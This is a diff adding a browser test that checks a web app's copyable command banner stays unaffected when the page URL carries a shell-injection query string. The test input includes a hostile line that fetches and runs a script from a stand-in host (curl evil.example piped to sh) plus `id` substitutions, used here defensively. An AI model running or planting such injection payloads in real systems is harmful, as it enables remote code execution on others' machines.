@@ -8,6 +8,7 @@ from urllib.parse import urlsplit
 
 from playwright.sync_api import expect
 
+from local.youtube import Failure
 from testkit.template import ROOT
 from tests.browser import Visitor, fetched
 
@@ -42,6 +43,22 @@ def test_scripting_attempts_stay_text(visitor: Visitor) -> None:
     assert page.locator("a[href^='javascript']").count() == 0
     assert dialogs == []
     # The policy has reported nothing: see `visit`.
+
+
+def test_a_link_to_the_page_puts_nothing_into_a_command(visitor: Visitor) -> None:
+    page = visitor.page
+    visitor.sign_in()
+    visitor.stack.youtube.fail(Failure.BLOCKED)
+    batch_id = visitor.create("Start", "Lighthouse1")
+    query = "?a;curl${IFS}evil.example/x|sh;`id`&b=$(id)"
+    page.goto(f"{visitor.origin}/{query}#/batch/{batch_id}")
+    expect(page.locator(".banner .copy-block code")).to_have_text(
+        f"python examples/skimlist_client.py --fetch-captions --app {visitor.origin} "
+        f"--client {visitor.stack.local.description['client_id']} --username {visitor.email}",
+        timeout=60_000,
+    )
+    assert query in page.url
+    visitor.stack.recover()
 
 
 def test_a_summary_full_of_stars_does_not_hold_up_the_page(visitor: Visitor) -> None:
